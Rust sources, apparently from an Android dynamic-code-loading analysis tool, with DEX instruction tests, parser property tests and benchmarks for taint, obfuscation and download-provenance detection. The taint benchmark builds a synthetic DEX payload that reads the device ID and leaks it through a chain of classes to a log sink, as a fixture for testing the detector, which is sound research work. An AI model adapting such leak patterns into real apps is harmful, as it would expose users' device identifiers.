    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        match self {
            Instruction::Nop => write!(f, "nop"),
            Instruction::Const { dst, value } => write!(f, "const v{dst}, {value}"),
            Instruction::ConstString { dst, value } => {
                write!(f, "const-string v{dst}, {:?}", value)
            }
            Instruction::ConstNull { dst } => write!(f, "const-null v{dst}"),
            Instruction::Move { dst, src } => write!(f, "move v{dst}, v{src}"),
            Instruction::MoveResult { dst } => write!(f, "move-result v{dst}"),
            Instruction::NewInstance { dst, class } => {
                write!(f, "new-instance v{dst}, {}", TypeDesc::class(class.clone()))
            }
            Instruction::Invoke { kind, method, args } => {
                let regs: Vec<String> = args.iter().map(|r| format!("v{r}")).collect();
                write!(f, "{} {{{}}}, {}", kind.mnemonic(), regs.join(", "), method)
            }
            Instruction::IGet { dst, obj, field } => {
                write!(f, "iget v{dst}, v{obj}, {field}")
            }
            Instruction::IPut { src, obj, field } => {
                write!(f, "iput v{src}, v{obj}, {field}")
            }
            Instruction::SGet { dst, field } => write!(f, "sget v{dst}, {field}"),
            Instruction::SPut { src, field } => write!(f, "sput v{src}, {field}"),
            Instruction::IfZero { cmp, reg, target } => {
                write!(f, "if-{}z v{reg}, :{target}", cmp.mnemonic())
            }
            Instruction::IfCmp { cmp, a, b, target } => {
                write!(f, "if-{} v{a}, v{b}, :{target}", cmp.mnemonic())
            }
            Instruction::Goto { target } => write!(f, "goto :{target}"),
            Instruction::BinOp { op, dst, a, b } => {
                write!(f, "{} v{dst}, v{a}, v{b}", op.mnemonic())
            }
            Instruction::ReturnVoid => write!(f, "return-void"),
            Instruction::Return { reg } => write!(f, "return v{reg}"),
            Instruction::Throw { reg } => write!(f, "throw v{reg}"),
            Instruction::CheckCast { reg, class } => {
                write!(f, "check-cast v{reg}, {}", TypeDesc::class(class.clone()))
            }
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn branch_target_accessors() {
        let mut insn = Instruction::Goto { target: 3 };
        assert_eq!(insn.branch_target(), Some(3));
        insn.set_branch_target(7);
        assert_eq!(insn.branch_target(), Some(7));
        assert_eq!(Instruction::Nop.branch_target(), None);
    }

    #[test]
    fn fall_through() {
        assert!(Instruction::Nop.falls_through());
        assert!(Instruction::IfZero {
            cmp: CmpKind::Eq,
            reg: 0,
            target: 0
        }
        .falls_through());
        assert!(!Instruction::ReturnVoid.falls_through());
        assert!(!Instruction::Goto { target: 0 }.falls_through());
        assert!(!Instruction::Throw { reg: 0 }.falls_through());
    }

    #[test]
    fn cmp_eval() {
        assert!(CmpKind::Eq.eval(1, 1));
        assert!(CmpKind::Ne.eval(1, 2));
        assert!(CmpKind::Lt.eval(1, 2));
        assert!(CmpKind::Ge.eval(2, 2));
        assert!(CmpKind::Gt.eval(3, 2));
        assert!(CmpKind::Le.eval(2, 2));
        assert!(!CmpKind::Lt.eval(2, 1));
    }

    #[test]
    fn display_forms() {
        let m = MethodRef::new("a.B", "x", "()V");
        let insn = Instruction::Invoke {
            kind: InvokeKind::Virtual,
            method: m,
            args: vec![1, 2],
        };
        assert_eq!(insn.to_string(), "invoke-virtual {v1, v2}, La/B;->x()V");
    }

    #[test]
    fn invoked_method_accessor() {
        let m = MethodRef::new("a.B", "x", "()V");
        let insn = Instruction::Invoke {
            kind: InvokeKind::Static,
            method: m.clone(),
            args: vec![],
        };
        assert_eq!(insn.invoked_method(), Some(&m));
        assert_eq!(Instruction::Nop.invoked_method(), None);
    }

    #[test]
    fn mentioned_class_accessor() {
        let insn = Instruction::NewInstance {
            dst: 0,
            class: "a.B".into(),
        };
        assert_eq!(insn.mentioned_class(), Some("a.B"));
    }
}
