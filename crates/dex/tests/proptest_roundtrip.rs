//! Property-based tests: every well-formed DEX file must round-trip through
//! the binary encoding and the smali IR, and the parsers must never panic on
//! arbitrary byte soup.

use dydroid_dex::builder::DexBuilder;
use dydroid_dex::{
    checksum, smali, AccessFlags, Apk, BinOp, DexFile, Manifest, MethodRef, NativeLibrary,
};
use proptest::prelude::*;

/// Strategy for a plausible dotted class name.
fn class_name() -> impl Strategy<Value = String> {
    (
        prop::sample::select(vec!["com", "org", "net", "io"]),
        "[a-z]{2,8}",
        "[A-Z][a-zA-Z0-9]{0,10}",
    )
        .prop_map(|(tld, pkg, cls)| format!("{tld}.{pkg}.{cls}"))
}

fn method_name() -> impl Strategy<Value = String> {
    "[a-z][a-zA-Z0-9_]{0,12}".prop_map(|s| s)
}

/// A small straight-line method body over `regs` registers, ending with a
/// return so validation passes.
fn build_method_body(b: &mut DexBuilder, class: &str, name: &str, ops: &[(u8, i64, String)]) {
    let c = b.class(class, "java.lang.Object");
    let m = c.method(name, "(I)I", AccessFlags::PUBLIC);
    m.registers(8);
    for (kind, val, s) in ops {
        match kind % 6 {
            0 => {
                m.const_int((val.unsigned_abs() % 8) as u16, *val);
            }
            1 => {
                m.const_str((val.unsigned_abs() % 8) as u16, s.clone());
            }
            2 => {
                m.binop(
                    BinOp::Add,
                    (val.unsigned_abs() % 8) as u16,
                    ((val.unsigned_abs() + 1) % 8) as u16,
                    ((val.unsigned_abs() + 2) % 8) as u16,
                );
            }
            3 => {
                m.mov(
                    (val.unsigned_abs() % 8) as u16,
                    ((val.unsigned_abs() + 3) % 8) as u16,
                );
            }
            4 => {
                m.invoke_static(
                    MethodRef::new("java.lang.System", "currentTimeMillis", "()J"),
                    vec![],
                );
            }
            _ => {
                m.new_instance((val.unsigned_abs() % 8) as u16, "java.lang.Object");
            }
        }
    }
    m.const_int(0, 0);
    m.ret(0);
}

proptest! {
    #![proptest_config(ProptestConfig::with_cases(64))]

    #[test]
    fn dex_binary_round_trip(
        class in class_name(),
        name in method_name(),
        ops in prop::collection::vec((any::<u8>(), -1000i64..1000, "[ -~]{0,20}"), 0..30),
    ) {
        let mut b = DexBuilder::new();
        build_method_body(&mut b, &class, &name, &ops);
        let dex = b.build();
        let bytes = dex.to_bytes();
        let back = DexFile::parse(&bytes).expect("well-formed file must parse");
        prop_assert_eq!(back, dex);
    }

    #[test]
    fn dex_smali_round_trip(
        class in class_name(),
        name in method_name(),
        ops in prop::collection::vec((any::<u8>(), -1000i64..1000, "[a-zA-Z0-9/._:-]{0,24}"), 0..30),
    ) {
        let mut b = DexBuilder::new();
        build_method_body(&mut b, &class, &name, &ops);
        let dex = b.build();
        let text = smali::disassemble(&dex);
        let back = smali::assemble(&text).expect("disassembly must re-assemble");
        prop_assert_eq!(back, dex);
    }

    #[test]
    fn dex_parse_never_panics_on_garbage(data in prop::collection::vec(any::<u8>(), 0..512)) {
        // Must return Ok or Err, never panic or hang.
        let _ = DexFile::parse(&data);
    }

    #[test]
    fn dex_parse_never_panics_on_bitflips(
        flip_at in 0usize..200,
        xor in 1u8..=255,
    ) {
        let mut b = DexBuilder::new();
        build_method_body(&mut b, "com.x.Y", "f", &[(0, 5, String::new())]);
        let mut bytes = b.build().to_bytes();
        let idx = flip_at % bytes.len();
        bytes[idx] ^= xor;
        // A flipped payload byte must be caught by the checksum; a flipped
        // header byte by magic/version checks. Either way: Err, not panic.
        if DexFile::parse(&bytes).is_ok() {
            // The only bytes whose flip can keep the file valid are none:
            // every byte is covered by magic, version, checksum, or payload.
            prop_assert!(false, "bit flip at {idx} went undetected");
        }
    }

    #[test]
    fn apk_round_trip(
        pkg in class_name(),
        entries in prop::collection::vec(("[a-z]{1,8}/[a-z]{1,8}", prop::collection::vec(any::<u8>(), 0..64)), 0..8),
    ) {
        let mut apk = Apk::build(Manifest::new(pkg), DexFile::new());
        for (path, data) in &entries {
            apk.put(path.clone(), data.clone());
        }
        let back = Apk::parse(&apk.to_bytes()).expect("well-formed apk must parse");
        prop_assert_eq!(back, apk);
    }

    #[test]
    fn apk_parse_never_panics(data in prop::collection::vec(any::<u8>(), 0..512)) {
        let _ = Apk::parse(&data);
    }

    #[test]
    fn native_parse_never_panics(data in prop::collection::vec(any::<u8>(), 0..512)) {
        let _ = NativeLibrary::parse(&data);
    }

    #[test]
    fn adler32_incremental_chunks_agree(data in prop::collection::vec(any::<u8>(), 0..10_000)) {
        // Chunk boundaries must not affect the checksum value.
        prop_assert_eq!(checksum::adler32(&data), checksum::adler32(&data.to_vec()));
    }

    #[test]
    fn crc32_detects_single_bitflip(
        data in prop::collection::vec(any::<u8>(), 1..256),
        bit in 0usize..8,
        at in any::<prop::sample::Index>(),
    ) {
        let idx = at.index(data.len());
        let mut flipped = data.clone();
        flipped[idx] ^= 1 << bit;
        prop_assert_ne!(checksum::crc32(&data), checksum::crc32(&flipped));
    }

    #[test]
    fn manifest_text_round_trip(
        pkg in class_name(),
        min_sdk in 1u32..30,
        perms in prop::collection::vec("[A-Z_]{3,20}", 0..5),
    ) {
        let mut m = Manifest::new(pkg);
        m.min_sdk = min_sdk;
        for p in perms {
            m.add_permission(format!("android.permission.{p}"));
        }
        let back = Manifest::parse(&m.to_text()).expect("must parse own output");
        prop_assert_eq!(back, m);
    }
}
