//! FlowDroid-like taint-analysis throughput (drives Table X), scaling
//! with payload size and leak density.

use criterion::{criterion_group, criterion_main, BenchmarkId, Criterion, Throughput};
use dydroid_analysis::taint::TaintAnalysis;
use dydroid_dex::builder::DexBuilder;
use dydroid_dex::{AccessFlags, DexFile, FieldRef, MethodRef};
use dydroid_workload::emit;

/// A payload with `classes` classes, each leaking through a field and a
/// helper call — exercising the interprocedural fixpoint.
fn chained_payload(classes: usize) -> DexFile {
    let mut b = DexBuilder::new();
    for i in 0..classes {
        let cls = format!("com.sdk.stage{i}.Hop");
        let next = format!("com.sdk.stage{}.Hop", i + 1);
        let c = b.class(&cls, "java.lang.Object");
        let m = c.method(
            "pass",
            "(Ljava/lang/String;)V",
            AccessFlags::PUBLIC | AccessFlags::STATIC,
        );
        m.registers(8);
        if i + 1 < classes {
            m.invoke_static(
                MethodRef::new(&next, "pass", "(Ljava/lang/String;)V"),
                vec![0],
            );
        } else {
            m.const_str(1, "t");
            m.invoke_static(
                MethodRef::new(
                    "android.util.Log",
                    "d",
                    "(Ljava/lang/String;Ljava/lang/String;)I",
                ),
                vec![1, 0],
            );
        }
        m.sput(0, FieldRef::new(&cls, "stash", "Ljava/lang/String;"));
        m.ret_void();
    }
    {
        let c = b.class("com.sdk.Entry", "java.lang.Object");
        let m = c.method("go", "()V", AccessFlags::PUBLIC);
        m.registers(8);
        m.invoke_static(
            MethodRef::new(
                "android.telephony.TelephonyManager",
                "getDeviceId",
                "()Ljava/lang/String;",
            ),
            vec![],
        );
        m.move_result(1);
        m.invoke_static(
            MethodRef::new("com.sdk.stage0.Hop", "pass", "(Ljava/lang/String;)V"),
            vec![1],
        );
        m.ret_void();
    }
    b.build()
}

fn bench_taint_chain_depth(c: &mut Criterion) {
    let taint = TaintAnalysis::new();
    let mut group = c.benchmark_group("taint_chain_depth");
    group.sample_size(30);
    for depth in [2usize, 8, 32] {
        let dex = chained_payload(depth);
        // The leak must actually be found at every depth.
        assert_eq!(taint.run(&dex).len(), 1, "depth {depth}");
        group.bench_with_input(BenchmarkId::from_parameter(depth), &dex, |b, dex| {
            b.iter(|| taint.run(std::hint::black_box(dex)))
        });
    }
    group.finish();
}

fn bench_taint_leak_density(c: &mut Criterion) {
    let taint = TaintAnalysis::new();
    let mut group = c.benchmark_group("taint_leak_density");
    group.sample_size(30);
    for types in [1usize, 6, 18] {
        let indices: Vec<usize> = (0..types).collect();
        let dex = emit::privacy_payload("com.sdk.Dense", &indices);
        group.throughput(Throughput::Elements(types as u64));
        group.bench_with_input(BenchmarkId::from_parameter(types), &dex, |b, dex| {
            b.iter(|| taint.run(std::hint::black_box(dex)))
        });
    }
    group.finish();
}

criterion_group!(benches, bench_taint_chain_depth, bench_taint_leak_density);
criterion_main!(benches);
