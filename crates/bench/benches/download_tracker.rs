//! Ablation: object-granularity download tracking (Table I) vs a naive
//! path-string heuristic.
//!
//! The heuristic marks every file written after any network fetch as
//! "remote" — cheap, but it misclassifies local asset staging that merely
//! happens after unrelated network traffic. The bench measures both the
//! accuracy gap (printed once) and the runtime cost of the flow graph.

use criterion::{criterion_group, criterion_main, Criterion, Throughput};
use dydroid_avm::flow::{FlowGraph, FlowNode};
use dydroid_avm::{Device, Event};
use dydroid_bench::{corpus, pipeline_no_reruns};

/// The naive baseline: replay the event log; any file Write that happens
/// after a successful NetFetch is called remote.
fn naive_remote_paths(device: &Device) -> Vec<String> {
    let mut fetched = false;
    let mut remote = Vec::new();
    for event in device.log.events() {
        match event {
            Event::NetFetch { bytes: Some(_), .. } => fetched = true,
            Event::File {
                op: dydroid_avm::FileOp::Write,
                path,
                ..
            } if fetched => {
                remote.push(path.clone());
            }
            _ => {}
        }
    }
    remote
}

fn bench_accuracy_and_speed(c: &mut Criterion) {
    let apps = corpus(0.004, 33);
    let pipeline = pipeline_no_reruns();

    // Build a mixed pool of devices: remote fetchers AND local ad apps
    // that also make (unrelated) ad-impression traffic.
    let mut devices: Vec<(Device, Vec<String>, bool)> = Vec::new();
    for app in apps
        .iter()
        .filter(|a| a.plan.remote_fetch || a.plan.google_ads)
        .take(24)
    {
        let Ok((decompiled, bytes, _)) =
            dydroid_analysis::decompiler::prepare_for_dynamic_analysis(&app.apk)
        else {
            continue;
        };
        let mut device = pipeline.prepare_device(app, dydroid_avm::DeviceConfig::default());
        let outcome = pipeline.exercise_and_analyze(app, &mut device, &bytes, &decompiled);
        let loaded: Vec<String> = outcome.dex_events.iter().map(|e| e.path.clone()).collect();
        if !loaded.is_empty() {
            devices.push((device, loaded, app.plan.remote_fetch));
        }
    }
    assert!(!devices.is_empty());

    // Accuracy comparison, printed once.
    let mut flow_correct = 0usize;
    let mut naive_correct = 0usize;
    for (device, loaded, truly_remote) in &devices {
        let flow_says = loaded.iter().any(|p| device.hooks.flow.is_remote(p));
        let naive = naive_remote_paths(device);
        let naive_says = loaded.iter().any(|p| naive.contains(p));
        if flow_says == *truly_remote {
            flow_correct += 1;
        }
        if naive_says == *truly_remote {
            naive_correct += 1;
        }
    }
    eprintln!(
        "[ablation] provenance accuracy over {} apps: flow-graph {}/{}, naive heuristic {}/{}",
        devices.len(),
        flow_correct,
        devices.len(),
        naive_correct,
        devices.len()
    );
    assert!(flow_correct >= naive_correct);
    assert_eq!(flow_correct, devices.len(), "flow graph must be exact");

    let mut group = c.benchmark_group("download_tracker");
    group.throughput(Throughput::Elements(devices.len() as u64));
    group.sample_size(30);
    group.bench_function("flow_graph_query", |b| {
        b.iter(|| {
            devices
                .iter()
                .filter(|(d, loaded, _)| loaded.iter().any(|p| d.hooks.flow.is_remote(p)))
                .count()
        })
    });
    group.bench_function("naive_heuristic", |b| {
        b.iter(|| {
            devices
                .iter()
                .filter(|(d, loaded, _)| {
                    let naive = naive_remote_paths(d);
                    loaded.iter().any(|p| naive.contains(p))
                })
                .count()
        })
    });
    group.finish();
}

fn bench_flow_graph_scaling(c: &mut Criterion) {
    let mut group = c.benchmark_group("flow_graph_scaling");
    group.sample_size(30);
    for chains in [10u32, 100, 1000] {
        let mut graph = FlowGraph::new();
        for i in 0..chains {
            let url = format!("http://cdn{i}.example.com/p");
            graph.add_edge(FlowNode::Url(url), FlowNode::InputStream(i * 4));
            graph.add_edge(FlowNode::InputStream(i * 4), FlowNode::Buffer(i * 4 + 1));
            graph.add_edge(
                FlowNode::Buffer(i * 4 + 1),
                FlowNode::OutputStream(i * 4 + 2),
            );
            graph.add_edge(
                FlowNode::OutputStream(i * 4 + 2),
                FlowNode::File(format!("/data/data/a/f{i}")),
            );
        }
        group.throughput(Throughput::Elements(u64::from(chains)));
        group.bench_with_input(
            criterion::BenchmarkId::from_parameter(chains),
            &graph,
            |b, graph| {
                b.iter(|| {
                    (0..chains)
                        .filter(|i| graph.is_remote(&format!("/data/data/a/f{i}")))
                        .count()
                })
            },
        );
    }
    group.finish();
}

criterion_group!(benches, bench_accuracy_and_speed, bench_flow_graph_scaling);
criterion_main!(benches);
