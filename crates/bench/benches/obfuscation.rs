//! Obfuscation-detector throughput (drives Table VI and Figure 3), and a
//! verification pass confirming detector correctness over a corpus slice.

use criterion::{criterion_group, criterion_main, Criterion, Throughput};
use dydroid_analysis::{decompiler, obfuscation};
use dydroid_bench::corpus;

fn bench_detectors(c: &mut Criterion) {
    let apps = corpus(0.002, 13);
    // Pre-decompile a slice so the benches isolate detector cost.
    let decompiled: Vec<_> = apps
        .iter()
        .filter_map(|a| decompiler::decompile(&a.apk).ok())
        .take(64)
        .collect();
    assert!(!decompiled.is_empty());

    let mut group = c.benchmark_group("obfuscation");
    group.throughput(Throughput::Elements(decompiled.len() as u64));
    group.sample_size(20);

    group.bench_function("lexical", |b| {
        b.iter(|| {
            decompiled
                .iter()
                .filter(|d| obfuscation::detect_lexical(std::hint::black_box(&d.classes)))
                .count()
        })
    });
    group.bench_function("reflection", |b| {
        b.iter(|| {
            decompiled
                .iter()
                .filter(|d| obfuscation::detect_reflection(std::hint::black_box(&d.classes)))
                .count()
        })
    });
    group.bench_function("dex_encryption_rules", |b| {
        b.iter(|| {
            decompiled
                .iter()
                .filter(|d| obfuscation::detect_dex_encryption(std::hint::black_box(d)))
                .count()
        })
    });
    group.bench_function("full_report", |b| {
        b.iter(|| {
            decompiled
                .iter()
                .map(|d| obfuscation::analyze(std::hint::black_box(d)))
                .collect::<Vec<_>>()
        })
    });
    group.finish();
}

fn bench_decompiler(c: &mut Criterion) {
    let apps = corpus(0.002, 13);
    let slice: Vec<&[u8]> = apps.iter().map(|a| a.apk.as_slice()).take(64).collect();
    let mut group = c.benchmark_group("decompiler");
    group.throughput(Throughput::Elements(slice.len() as u64));
    group.sample_size(20);
    group.bench_function("decompile_to_smali", |b| {
        b.iter(|| {
            slice
                .iter()
                .filter(|bytes| decompiler::decompile(std::hint::black_box(bytes)).is_ok())
                .count()
        })
    });
    group.finish();
}

criterion_group!(benches, bench_detectors, bench_decompiler);
criterion_main!(benches);
