//! Ablation: interception WITH vs WITHOUT delete/rename suppression.
//!
//! Ad SDKs delete their staged payloads after loading; without the mutual
//! exclusion hook those temporary files are lost to later analysis. The
//! bench times both modes and prints the capture-survival difference —
//! the design choice the paper's Section III-B motivates.

use criterion::{criterion_group, criterion_main, Criterion};
use dydroid::{Pipeline, PipelineConfig};
use dydroid_bench::corpus;

fn survived_files(pipeline: &Pipeline, apps: &[dydroid_workload::SyntheticApp]) -> (usize, usize) {
    let mut intercepted = 0usize;
    let mut on_disk = 0usize;
    for app in apps.iter().filter(|a| a.plan.google_ads).take(16) {
        let Ok((decompiled, bytes, _)) =
            dydroid_analysis::decompiler::prepare_for_dynamic_analysis(&app.apk)
        else {
            continue;
        };
        let mut device = pipeline.prepare_device(app, dydroid_avm::DeviceConfig::default());
        let _ = pipeline.exercise_and_analyze(app, &mut device, &bytes, &decompiled);
        for binary in device.hooks.intercepted() {
            intercepted += 1;
            if device.fs.exists(&binary.path) {
                on_disk += 1;
            }
        }
    }
    (intercepted, on_disk)
}

fn bench_suppression_ablation(c: &mut Criterion) {
    let apps = corpus(0.004, 21);
    let with = Pipeline::new(PipelineConfig {
        suppress_file_ops: true,
        environment_reruns: false,
        ..Default::default()
    });
    let without = Pipeline::new(PipelineConfig {
        suppress_file_ops: false,
        environment_reruns: false,
        ..Default::default()
    });

    // Report the ablation effect once: with suppression every staged ad
    // payload survives; without it the SDK cleanup wins.
    let (captured_with, disk_with) = survived_files(&with, &apps);
    let (captured_without, disk_without) = survived_files(&without, &apps);
    eprintln!("[ablation] suppression ON : {captured_with} intercepted, {disk_with} still on disk");
    eprintln!(
        "[ablation] suppression OFF: {captured_without} intercepted, {disk_without} still on disk"
    );
    assert!(disk_with > disk_without, "suppression must preserve files");

    let mut group = c.benchmark_group("interception_suppression");
    group.sample_size(15);
    group.bench_function("with_suppression", |b| {
        b.iter(|| survived_files(&with, std::hint::black_box(&apps)))
    });
    group.bench_function("without_suppression", |b| {
        b.iter(|| survived_files(&without, std::hint::black_box(&apps)))
    });
    group.finish();
}

criterion_group!(benches, bench_suppression_ablation);
criterion_main!(benches);
