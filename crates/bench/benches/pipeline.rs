//! Pipeline throughput (drives Table II): per-app analysis latency and
//! full-corpus sweep rate.

use criterion::{criterion_group, criterion_main, BenchmarkId, Criterion, Throughput};
use dydroid_bench::{corpus, pipeline_no_reruns};

fn bench_per_app(c: &mut Criterion) {
    let apps = corpus(0.002, 7);
    let pipeline = pipeline_no_reruns();
    let mut group = c.benchmark_group("pipeline_per_app");
    group.sample_size(20);

    // A representative plain DCL app.
    let ad_app = apps
        .iter()
        .find(|a| a.plan.google_ads)
        .expect("ad app present");
    group.bench_function("ad_sdk_app", |b| {
        b.iter(|| pipeline.analyze_app(std::hint::black_box(ad_app)))
    });

    // A packed app (decrypt chain + lifecycle reconstruction).
    if let Some(packed) = apps.iter().find(|a| a.plan.packer) {
        group.bench_function("packed_app", |b| {
            b.iter(|| pipeline.analyze_app(std::hint::black_box(packed)))
        });
    }

    // A no-DCL app (filter fast path).
    if let Some(plain) = apps.iter().find(|a| !a.plan.has_dcl_code()) {
        group.bench_function("plain_app_fast_path", |b| {
            b.iter(|| pipeline.analyze_app(std::hint::black_box(plain)))
        });
    }
    group.finish();
}

fn bench_corpus_sweep(c: &mut Criterion) {
    let mut group = c.benchmark_group("pipeline_corpus_sweep");
    group.sample_size(10);
    for scale in [0.001, 0.002, 0.004] {
        let apps = corpus(scale, 7);
        group.throughput(Throughput::Elements(apps.len() as u64));
        group.bench_with_input(BenchmarkId::from_parameter(apps.len()), &apps, |b, apps| {
            let pipeline = pipeline_no_reruns();
            b.iter(|| pipeline.run(std::hint::black_box(apps)))
        });
    }
    group.finish();
}

fn bench_corpus_generation(c: &mut Criterion) {
    let mut group = c.benchmark_group("corpus_generation");
    group.sample_size(10);
    for scale in [0.002, 0.01] {
        group.bench_with_input(BenchmarkId::from_parameter(scale), &scale, |b, &scale| {
            b.iter(|| corpus(std::hint::black_box(scale), 7))
        });
    }
    group.finish();
}

criterion_group!(
    benches,
    bench_per_app,
    bench_corpus_sweep,
    bench_corpus_generation
);
criterion_main!(benches);
