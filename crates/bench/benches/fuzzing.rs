//! Ablation: Monkey event budget vs. DCL trigger rate.
//!
//! The paper argues (Section V-C) that most DCL fires at launch, so a
//! modest fuzzing budget suffices. This bench sweeps the budget and
//! prints the interception rate per budget alongside the timing.

use criterion::{criterion_group, criterion_main, BenchmarkId, Criterion};
use dydroid::{Pipeline, PipelineConfig};
use dydroid_bench::corpus;

fn interception_rate(
    pipeline: &Pipeline,
    apps: &[dydroid_workload::SyntheticApp],
) -> (usize, usize) {
    let mut eligible = 0usize;
    let mut intercepted = 0usize;
    for app in apps {
        if !app.plan.has_dcl_code() {
            continue;
        }
        let record = pipeline.analyze_app(app);
        if record.filter.any() {
            eligible += 1;
            if record.dex_intercepted() || record.native_intercepted() {
                intercepted += 1;
            }
        }
    }
    (intercepted, eligible)
}

fn bench_event_budget(c: &mut Criterion) {
    let apps: Vec<_> = corpus(0.003, 55);
    let mut group = c.benchmark_group("fuzzing_event_budget");
    group.sample_size(10);
    for budget in [1usize, 5, 20, 50] {
        let pipeline = Pipeline::new(PipelineConfig {
            monkey_events: budget,
            environment_reruns: false,
            ..Default::default()
        });
        let (hit, total) = interception_rate(&pipeline, &apps);
        eprintln!("[ablation] budget {budget}: {hit}/{total} DCL apps intercepted");
        group.bench_with_input(BenchmarkId::from_parameter(budget), &budget, |b, _| {
            b.iter(|| interception_rate(&pipeline, std::hint::black_box(&apps)))
        });
    }
    group.finish();
}

fn bench_monkey_throughput(c: &mut Criterion) {
    use dydroid_avm::{Device, DeviceConfig};
    use dydroid_monkey::{Monkey, MonkeyConfig};

    let apps = corpus(0.002, 55);
    let app = apps
        .iter()
        .find(|a| a.plan.google_ads)
        .expect("ad app present");
    let mut group = c.benchmark_group("monkey_exercise");
    group.sample_size(30);
    group.bench_function("launch_and_fuzz_ad_app", |b| {
        b.iter(|| {
            let mut device = Device::new(DeviceConfig::default());
            device.install(std::hint::black_box(&app.apk)).unwrap();
            let mut monkey = Monkey::new(MonkeyConfig::default());
            monkey.exercise(&mut device, app.package()).unwrap()
        })
    });
    group.finish();
}

criterion_group!(benches, bench_event_budget, bench_monkey_throughput);
criterion_main!(benches);
