//! Shared command-line parsing for the bench binaries.
//!
//! Every bench used to hand-roll the same `--scale/--seed/--out` loop
//! (and its own `--min-*` gate flags) with slightly different error
//! handling. [`ArgParser`] + [`CommonArgs`] unify that: one flag
//! vocabulary, one usage/exit-code convention (see [`EXIT_CLEAN`],
//! [`EXIT_FINDING`], [`EXIT_USAGE`]), one `--help` shape. Bench-specific
//! flags stay in the binary's own `match` arm, parsed through the same
//! [`ArgParser::value`] helper.

use std::str::FromStr;

/// Exit code: the run completed and found nothing to report.
pub const EXIT_CLEAN: i32 = 0;
/// Exit code: the run completed and found something — a gated
/// regression, a failed identity check, corrupt frames. Shared with
/// `dcltrace check`.
pub const EXIT_FINDING: i32 = 1;
/// Exit code: the command line itself was invalid.
pub const EXIT_USAGE: i32 = 2;

/// The exit-code convention, appended to every binary's `--help`.
pub const EXIT_CODE_HELP: &str = "exit codes: 0 clean · 1 finding (gated regression, failed \
identity or integrity check) · 2 usage error";

/// Iterates the process arguments with typed flag-value helpers and the
/// shared usage/exit-code convention.
pub struct ArgParser {
    args: std::vec::IntoIter<String>,
    usage: &'static str,
}

impl ArgParser {
    /// Parser over `std::env::args` (program name skipped).
    pub fn new(usage: &'static str) -> ArgParser {
        ArgParser {
            args: std::env::args().skip(1).collect::<Vec<_>>().into_iter(),
            usage,
        }
    }

    /// Next raw argument, if any.
    #[allow(clippy::should_implement_trait)]
    pub fn next(&mut self) -> Option<String> {
        self.args.next()
    }

    /// The value following `flag`, parsed as `T`; exits with
    /// [`EXIT_USAGE`] when missing or malformed.
    pub fn value<T: FromStr>(&mut self, flag: &str, what: &str) -> T {
        self.args
            .next()
            .and_then(|v| v.parse().ok())
            .unwrap_or_else(|| self.fail(&format!("{flag} needs {what}")))
    }

    /// The raw string following `flag`; exits with [`EXIT_USAGE`] when
    /// missing.
    pub fn raw(&mut self, flag: &str) -> String {
        match self.args.next() {
            Some(v) => v,
            None => self.fail(&format!("{flag} needs a value")),
        }
    }

    /// Prints the usage error and exits with [`EXIT_USAGE`].
    pub fn fail(&self, msg: &str) -> ! {
        eprintln!("error: {msg}");
        eprintln!("usage: {}", self.usage);
        eprintln!("{EXIT_CODE_HELP}");
        std::process::exit(EXIT_USAGE);
    }

    /// Prints usage plus the exit-code convention and exits clean
    /// (the `--help` path).
    pub fn help(&self) -> ! {
        println!("usage: {}", self.usage);
        println!("{EXIT_CODE_HELP}");
        std::process::exit(EXIT_CLEAN);
    }
}

/// The flags every bench binary shares. `--min-<gate>` flags are
/// collected generically into [`CommonArgs::gates`], so each bench only
/// has to *read* its gate (e.g. `gate("scaling")`), not parse it.
#[derive(Debug, Clone)]
pub struct CommonArgs {
    /// Corpus scale (`--scale`).
    pub scale: f64,
    /// Deterministic seed (`--seed`).
    pub seed: u64,
    /// Unified-record output path (`--out`).
    pub out: String,
    /// History stream to append the record to (`--history PATH`,
    /// `--no-history` clears it). Defaults to
    /// [`crate::history::DEFAULT_HISTORY`].
    pub history: Option<String>,
    /// Recorded sample rounds (`--samples`).
    pub samples: usize,
    /// Unrecorded warmup rounds (`--warmup`).
    pub warmup: usize,
    /// `--min-<name> F` gates, in arrival order.
    pub gates: Vec<(String, f64)>,
}

impl CommonArgs {
    /// Defaults for one bench: its record path and sampling shape.
    pub fn for_bench(out: &str, samples: usize, warmup: usize) -> CommonArgs {
        CommonArgs {
            scale: 0.01,
            seed: dydroid_workload::CorpusSpec::default().seed,
            out: out.to_string(),
            history: Some(crate::history::DEFAULT_HISTORY.to_string()),
            samples,
            warmup,
            gates: Vec::new(),
        }
    }

    /// Consumes `arg` if it is a shared flag; returns `false` so the
    /// caller can try its bench-specific flags.
    pub fn accept(&mut self, arg: &str, p: &mut ArgParser) -> bool {
        match arg {
            "--scale" => self.scale = p.value("--scale", "a float"),
            "--seed" => self.seed = p.value("--seed", "an integer"),
            "--out" => self.out = p.raw("--out"),
            "--history" => self.history = Some(p.raw("--history")),
            "--no-history" => self.history = None,
            "--samples" => {
                self.samples = p.value("--samples", "an integer >= 1");
                if self.samples == 0 {
                    p.fail("--samples needs an integer >= 1");
                }
            }
            "--warmup" => self.warmup = p.value("--warmup", "an integer"),
            "--help" | "-h" => p.help(),
            min if min.starts_with("--min-") => {
                let name = min["--min-".len()..].to_string();
                if name.is_empty() {
                    p.fail("--min-<gate> needs a gate name");
                }
                let value = p.value(min, "a float");
                self.gates.push((name, value));
            }
            _ => return false,
        }
        true
    }

    /// The last value given for gate `name`, if any.
    pub fn gate(&self, name: &str) -> Option<f64> {
        self.gates
            .iter()
            .rev()
            .find(|(n, _)| n == name)
            .map(|(_, v)| *v)
    }

    /// Appends the record to the configured history stream (if any),
    /// logging the sequence number; a failure warns but does not abort
    /// the bench (the record file is already written).
    pub fn append_history(&self, tag: &str, record: &crate::Measurement) {
        let Some(path) = &self.history else { return };
        match crate::history::append(std::path::Path::new(path), record) {
            Ok(seq) => eprintln!("{tag}: appended history record #{seq} to {path}"),
            Err(e) => eprintln!("{tag}: warning: cannot append history to {path}: {e}"),
        }
    }
}
