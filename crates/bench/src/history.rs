//! The regression-gated bench history: `BENCH_history.jsonl`.
//!
//! Every bench run appends its unified [`Measurement`](crate::Measurement)
//! as **one framed line** — the same `{"seq","len","crc","body"}` record
//! frame the sweep journal uses (`dydroid::durable`), so a crash mid-
//! append can only tear the tail, and the next append (or load) truncates
//! the torn frame and continues the sequence. The file is tracked in
//! git: the perf trajectory of the repo is a first-class artifact, and
//! `benchcmp --history` diffs a fresh record against the latest
//! committed entry for the same bench.

